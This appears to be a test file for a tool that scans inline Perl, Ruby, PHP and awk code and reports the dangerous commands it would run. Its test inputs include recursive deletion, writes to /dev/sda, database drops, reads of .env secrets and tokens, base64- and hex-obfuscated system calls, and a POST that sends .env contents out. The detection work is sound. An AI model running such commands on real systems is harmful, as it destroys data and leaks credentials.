import assert from 'node:assert/strict';
import { awk } from '../../../src/core/code/awk';
import { perl } from '../../../src/core/code/perl';
import { php } from '../../../src/core/code/php';
import { ruby } from '../../../src/core/code/ruby';
import type { CodeReader } from '../../../src/core/model/codeReader';
import { read } from './checkCode';

type Row = readonly [args: readonly string[], found: readonly string[]];

const rows: readonly (readonly [CodeReader, readonly Row[]])[] = [
  [
    perl,
    [
      [['-e', 'system("id")'], ['$ id']],
      [['-e', 'system "ls", "-l"'], ['ls -l']],
      [['-e', 'system(qw(rm -rf x))'], ['rm -rf x']],
      [['-e', 'my $x = "rm"; exec("$x -rf /srv") or die'], ['$ rm -rf /srv']],
      [
        ['-e', 'print `id`'],
        ['$ id', '$ id'],
      ],
      [
        ['-e', 'my $o = qx{id}; print $o'],
        ['$ id', '$ id'],
      ],
      [['-ne', 'system("echo ".$_)'], ['$ echo …']],
      [['-MFile::Path=rmtree', '-e', "rmtree('/srv/x')"], ['rm -r -f -- /srv/x']],
      [['-e', 'unlink glob("*.o")'], ['$ rm -f -- *.o']],
      [
        ['-e', 'unlink $ARGV[0]'],
        ['rm -f -- …', '?dynamic present'],
      ],
      [
        ['-e', 'rename "a", "b"; chmod 0777, "c"; rmdir "d"'],
        ['mv -- a b', 'chmod 777 c', 'rmdir -- d'],
      ],
      [
        ['-e', 'open(F, "id|"); open(my $g, "-|", "id", "-u"); open(H, "| sh")'],
        ['$ id', '$ sh', 'id -u', '?dynamic present'],
      ],
      [
        ['-e', 'open(my $g, "|-", "cat"); open(O, "+<", "r"); open(I, "<w")'],
        ['$ cat', '> /home/dev/shop/r'],
      ],
      [
        ['-e', 'open(O, ">", "out"); open(P, ">>more"); open(Q, "<in")'],
        ['> /home/dev/shop/out', '> /home/dev/shop/more'],
      ],
      [['-e', 'open(my $f, "<", ".env"); while (<$f>) { print }; print <$f>'], ['cat .env']],
      [['-e', 'open(O, ">/dev/sda")'], ['dd of=/dev/sda']],
      [
        ['-e', 'truncate("x", 0); move("a", "b")'],
        ['truncate -s 0 -- x', 'mv -- a b'],
      ],
      [['-e', 'print $ENV{TOKEN}, $ENV{HOME}'], ['printenv TOKEN']],
      [['-e', 'print "x: $ENV{TOKEN}\\n"'], ['printenv TOKEN']],
      [['-e', 'print join(" ", %ENV)'], []],
      [['-MMIME::Base64', '-e', 'eval(decode_base64("c3lzdGVtKCJpZCIp"))'], ['$ id']],
      [['-e', 'eval pack("H*", "73797374656d28226964222929".substr($x, 1))'], ['?dynamic present']],
      [['-e', 'eval { die }; eval $x'], ['?dynamic present']],
      [['-e', 'syscall(1)'], ['?dynamic present']],
      [
        ['-e', 'open3(my $in, my $out, my $e, "id"); open2($a, $b, "rm", "x")'],
        ['$ id', 'rm x'],
      ],
      [['-MDBI', '-e', 'DBI->connect("dbi:Pg:dbname=x")->do("DROP TABLE t")'], ['psql -c DROP TABLE t']],
      [['-MDBI', '-e', '$x->say("hi"); $x->do($sql); $y->other(1)'], []],
      [
        ['-e', 'system(reverse("di")); system(join(" ", "rm", "x"))'],
        ['$ id', '$ rm x'],
      ],
      [['-e', 's/system("x")/b/; s{a}{system}; tr/a-z/A-Z/; y/a/b/; m{system("id")}; print'], []],
      [['-e', '# system("id")\nprint 1'], []],
      [['-e', 'sub system { 1 } my %h = (system => "id")'], []],
      [['-e', 'system(<<EOT);\nrm -rf x\nEOT\n'], ['$ rm -rf x']],
      [
        ['-e', 'system(<<EOT);\nrm'],
        ['$ …', '?dynamic present'],
      ],
      [['-e', "print 'a'", '-e', "; system('id')"], ['$ id']],
      [['-e', 'print 7/2; system("id")'], ['$ id']],
      [['-pe', 's/a/b/', 'file'], []],
      [['-i.example', '-pe', 's/a/b/', 'file'], []],
      [['-e', 'rm -rf /'], []],
      [['-e', 'system(("id", "x"))'], ['id x']],
      [['-e', 'system("unfinished'], ['$ unfinished']],
    ],
  ],
  [
    ruby,
    [
      [
        ['-e', 'system("id"); exec "terraform", "destroy"'],
        ['$ id', 'terraform destroy'],
      ],
      [['-e', 'x = "/srv"; system("rm -rf #{x}")'], ['$ rm -rf /srv']],
      [
        ['-e', 'puts `ls`; %x(id); a = %w[a b]; b = %q(c); system(*%w[rm x])'],
        ['$ ls', '$ ls', '$ id', '$ …', '?dynamic present'],
      ],
      [
        ['-rfileutils', '-e', 'FileUtils.rm_rf("x"); FileUtils.rm(%w[a b]); FileUtils.mv("a", "b")'],
        ['rm -r -f -- x', 'rm -f -- a b', 'mv -- a b'],
      ],
      [
        ['-e', 'FileUtils.rm_rf(Dir.glob("*.log")); FileUtils.rm_rf(Dir.glob("$(id)"))'],
        ['$ rm -r -f -- *.log', 'rm -r -f -- …', '?dynamic present'],
      ],
      [
        ['-e', 'Dir.each_child(".") { |f| File.delete(f) }'],
        ['rm -f -- …', '?dynamic present'],
      ],
      [
        ['-e', 'puts File.read(".env"); p ENV["TOKEN"]; puts ENV.fetch("KEY"); p ENV.to_h'],
        ['cat .env', 'printenv TOKEN', 'printenv KEY', 'printenv'],
      ],
      [
        ['-e', 'File.write("a", "x"); File.open("b", "w"); File.open("c"); File.chmod(0777, "d")'],
        ['chmod 777 d', '> /home/dev/shop/a', '> /home/dev/shop/b'],
      ],
      [
        ['-e', 'IO.popen(["id", "-u"]); Open3.capture2("id"); File.truncate("f", 0)'],
        ['$ id', 'id -u', 'truncate -s 0 -- f'],
      ],
      [['-rbase64', '-e', 'eval(Base64.decode64("c3lzdGVtKCJpZCIp"))'], ['$ id']],
      [['-e', 'eval(STDIN.read); eval(File.read("x.rb"))'], ['?dynamic present']],
      [['-rpg', '-e', 'PG.connect(dbname: "x").exec("DROP TABLE t")'], ['psql -c DROP TABLE t']],
      [['-e', 'Redis.new.flushall # redis'], ['redis-cli FLUSHALL']],
      [
        ['-e', 'Net::HTTP.delete(URI("https://x.example/1")); HTTParty.post("https://y", File.read(".env"))'],
        ["$ curl -X POST -d \"$(cat '.env')\" 'https://y'", 'curl -X DELETE https://x.example/1'],
      ],
      [
        ['-e', 'File.delete(File.join(Dir.home, "a")); File.unlink(File.expand_path("~/b"))'],
        ['rm -f -- /home/dev/a', 'rm -f -- /home/dev/b'],
      ],
      [['-e', 'puts 1 if /system("id")/ =~ x'], []],
      [['-rjson', '-e', 'puts JSON.parse(STDIN.read)["a"]'], []],
      [['-v'], []],
    ],
  ],
  [
    php,
    [
      [
        ['-r', 'system("id"); shell_exec("ls"); `pwd`;'],
        ['$ id', '$ ls', '$ pwd'],
      ],
      [['-r', '$x = base64_decode("aWQ="); passthru($x);'], ['$ id']],
      [
        ['-r', 'proc_open(["rm", "x"], [], $p); pcntl_exec("/bin/rm", ["x"]);'],
        ['rm x', '/bin/rm x'],
      ],
      [
        ['-r', 'unlink("a", $c); rmdir("b"); rename("c", "d"); chmod("e", 0777); chmod("f", $m);'],
        ['rm -f -- a', 'rmdir -- b', 'mv -- c d', 'chmod 777 e'],
      ],
      [
        ['-r', 'file_put_contents("a", 1); fopen("b", "w"); fopen("c", "r");'],
        ['> /home/dev/shop/a', '> /home/dev/shop/b'],
      ],
      [
        [
          '-r',
          'echo file_get_contents(".env"); readfile("x"); echo getenv("TOKEN"); var_dump(getenv()); echo $_ENV["K"];',
        ],
        ['cat .env', 'cat x', 'printenv TOKEN', 'printenv', 'printenv K'],
      ],
      [
        ['-r', 'eval($_GET["x"] . $y); eval(hex2bin("73797374656d2822696422293b"));'],
        ['$ id', '?dynamic present'],
      ],
      [
        ['-r', '(new PDO("sqlite:x"))->exec("DROP TABLE t"); system(strrev("di")); system("rm {$x}");'],
        ['$ id', '$ rm …', 'sqlite3 :memory: DROP TABLE t'],
      ],
      [
        ['-r', 'array_map("unlink", glob("*.o")); unlink(glob("*.o")); // unlink("a")'],
        ['$ rm -f -- *.o', '$ rm -f -- *.o'],
      ],
      [['-r', 'echo phpversion(); /* system("id") */'], []],
    ],
  ],
];

describe('languages that are looked through for their calls', () => {
  for (const [reader, table] of rows) {
    for (const [args, found] of table) {
      it(`${reader.programs[0]} ${args.join(' ')}`, async () => {
        assert.deepEqual((await read(reader, reader.programs[0], { args })) ?? [], found);
      });
    }
  }

  it('code that another command writes, and a file that is too long, are not known', async () => {
    const input = { kind: 'pipe', from: null } as const;
    assert.deepEqual(await read(perl, 'perl', { args: [], input }), ['?dynamic present']);
    assert.deepEqual(await read(perl, 'perl', { args: ['-e', '\uFFFC'] }), ['?dynamic present']);
    const files = { '/home/dev/shop/long.pl': 'x'.repeat(40_001), '/home/dev/shop/x.awk': 'BEGIN { system("id") }' };
    assert.deepEqual(await read(perl, 'perl', { args: ['long.pl'], files }), ['?too-long possible']);
    assert.deepEqual(await read(awk, 'awk', { args: ['-f', 'x.awk', 'data'], files }), ['$ id']);
    assert.deepEqual(await read(awk, 'awk', { args: ['{ print }'], input }), []);
  });

  it('code in code is followed so deep and no deeper', async () => {
    const wrapped = ['1', '2', '3', '4', '5', '6'].reduce(
      (code) => `eval '${code.replaceAll(/[\\']/g, '\\$&')}'`,
      'system("id")',
    );
    assert.deepEqual(await read(perl, 'perl', { args: ['-e', wrapped] }), ['?dynamic present']);
  });
});
